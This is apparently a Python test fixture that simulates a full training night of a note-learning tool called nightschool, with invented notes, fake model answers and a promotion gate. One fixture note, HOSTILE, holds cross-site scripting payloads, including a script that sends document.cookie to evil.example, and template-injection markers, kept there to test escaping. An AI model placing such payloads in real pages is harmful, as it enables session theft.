"""A night with everything a report tells, in seconds: real notes, questions, gate and notes taken;
only the practice is left out, and what the two models answer is made up here."""

from __future__ import annotations

import math
import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from flat_embedder import Flat
from invented_notes import NOTES
from nightschool import cycle
from nightschool.clock import SystemClock
from nightschool.config import Config
from nightschool.diary import Diary
from nightschool.engine.examinee import Remembered
from nightschool.evaluate.gate import Policy, Sheet, judge
from nightschool.index import lexical
from nightschool.intake import run_intake
from nightschool.models import catalogue
from nightschool.pairs.rules import RuleWriter
from nightschool.pairs.synthesize import write_pairs
from nightschool.paths import Home
from nightschool.records import Hit, Outcome, Plan, Verdict
from nightschool.regime import Start
from nightschool.registry import versions
from nightschool.store import documents, runs
from nightschool.store.db import Store
from nightschool.syllabus import Syllabus, syllabus
from nightschool.train.night import Fitted
from nightschool.train.parity import Parity

HOSTILE = (
    "# Rules <script>alert('title')</script>\n\n"
    "Owner: <img src=x onerror=alert(1)>\n"
    "Badge: see ![logo](http://evil.example/pixel.png)\n"
    'Site: <a href="http://evil.example/">here</a>\n'
    "Colour: </style><script>fetch('http://evil.example/?'+document.cookie)</script>\n"
    "Size: {{ view }} {% raw %}\n"
)
SECRET_WORD = "Quarrelberg"
GO = (
    f"# Lighthouse {SECRET_WORD}\n\nKeeper: Ottilie Vandersmyth\nHeight: 41 metres\n"
    "Lamp: Zandvoort\n"
)
COPY = "# Shed\n\nKey number: 17\nRent: £40\nDoor colour: ochre\n"
GERMAN = (
    "# Werkzeug\n\nDie Bohrmaschine liegt im Keller auf dem zweiten Regal von links. Sie gehört "
    "Herrn Quistorp und wurde im Jahr 1964 in Bremen gekauft. Der Schlüssel hängt neben der Tür.\n"
)
ENDINGS = {
    Verdict.PROMOTE: Outcome.PROMOTED,
    Verdict.HOLD: Outcome.HELD,
    Verdict.REJECT: Outcome.REJECTED,
}


class Words:
    """A searcher by words alone, for `Remembered`."""

    def __init__(self, store: Store) -> None:
        self.store = store
        self.searcher = self

    def search(self, query: str, k: int = 8) -> list[Hit]:
        ids = lexical.search(self.store, query, k)
        found = documents.chunks(self.store, ids)
        return [
            Hit(number, found[number].document_id, found[number].text, found[number].locator, 1.0)
            for number in ids
        ]


@dataclass
class Made:
    """A home with its folder, and the nights that were held there."""

    home: Home
    store: Store
    folder: Path
    config: Config = field(default_factory=Config)

    def write(self, name: str, text: str) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        return path

    def sync(self) -> None:
        run_intake(self.home, self.store, self.config, embedder=Flat())

    def begin(self, **plan: Any) -> tuple[Diary, Syllabus, Plan]:
        """A night up to its practice; its run is open."""
        diary = Diary(self.home, self.store)
        diary.wrote(write_pairs(self.store, [RuleWriter()], None, None), self.config)
        model = catalogue.resolve(self.home, self.store, "")
        lessons = syllabus(self.store, set(), int(plan.get("facts", 0)))
        wanted = Plan(**plan)
        diary.planned(lessons, wanted, model)
        number, wanted = cycle._open_run(
            self.home, self.store, model, wanted, lessons, Start(), SystemClock()
        )
        diary.opened(number, wanted)
        return diary, lessons, wanted

    def night(self, share: float = 0.85, steps: int = 600, **plan: Any) -> int:
        """A whole night whose candidate knows this share of the exam's questions."""
        diary, lessons, wanted = self.begin(**plan)
        folder = self.home.runs / str(diary.run_id) / "candidate"
        folder.mkdir(parents=True)
        (folder / "adapter.gguf").write_bytes(b"adapter")
        diary.practised(
            Fitted(folder, steps, 212.4, _losses(steps), 0, Parity(0.1, 0.1, 9.0, 1.0, 20), 2)
        )
        parts = Remembered(Words(self.store))  # type: ignore[arg-type]
        for question in lessons.material.served:
            parts.search(question.prompt)
        base = _sheet("the base", lessons, 0.1, seed=1)
        candidate = _sheet("the candidate", lessons, share, seed=2)
        diary.sittings.base, diary.sittings.candidate = base, candidate
        diary.sittings.scales = [(1.0, False, 0.071, 0.13), (0.95, True, 0.022, 0.061)]
        diary.examined(lessons, parts, wanted.seed, 131.0)
        card = judge(candidate, base, None, Policy(), 0.95)
        version = None
        if card.verdict is not Verdict.REJECT:
            status = "promoted" if card.verdict is Verdict.PROMOTE else "held"
            made = versions.register(
                self.home, self.store, folder, base_sha="b" * 64, status=status,
                scale=0.95, run_id=diary.run_id,
            )  # fmt: skip
            version = made.number
        runs.finish(
            self.store, diary.run_id, ENDINGS[card.verdict], scorecard=card, version=version,
            message=" ".join(card.reasons),
        )  # fmt: skip
        diary.close()
        return diary.run_id


def make(root: Path, store: Store) -> Made:
    """Notes worth a night, with everything among them that is left out."""
    folder = root / "notes"
    made = Made(Home(root / "home"), store, folder)
    for name, text in NOTES.items():
        made.write(f"House/{name}", text)
    made.write("hostile.md", HOSTILE)
    made.write("go.md", GO)
    made.write("copies/shed 1.md", COPY)
    made.write("copies/shed 2.md", COPY.replace("17", "18"))
    made.write("werkzeug.md", GERMAN)
    made.write("long.md", "# Valves\n\n" + "\n".join(f"Valve {a}{b}: bay {a}{b}" for a in "ABCDEFG"
               for b in "HIJKLMNOP"))  # fmt: skip
    documents.add_root(store, str(folder))
    made.sync()
    return made


def _losses(steps: int) -> tuple[float, ...]:
    dice = random.Random(3)
    return tuple(
        round(4.2 * math.exp(-step / (steps / 4)) + 0.35 + dice.random() * 0.5, 4)
        for step in range(steps)
    )


def _sheet(name: str, lessons: Syllabus, share: float, seed: int) -> Sheet:
    dice = random.Random(seed)
    right: dict[str, list[bool]] = {}
    said: dict[str, list[str]] = {}
    for probe in ("recall", "served"):
        asked = getattr(lessons.material, probe)
        right[probe] = [dice.random() < share for _ in asked]
        said[probe] = [
            item.answers[0] if ok else f"On the {dice.choice(('red', 'blue'))} <b>shelf</b>"
            for item, ok in zip(asked, right[probe], strict=True)
        ]
    right["reading"] = [number % 5 > 0 for number in range(400)]
    right["abstain"] = [number % 10 > 0 for number in range(150)]
    general = [(300.0 + number, 100) for number in range(72)]
    kl = [0.02] * 64 if name != "the base" else []
    return Sheet(name, right, general, kl, said=said)
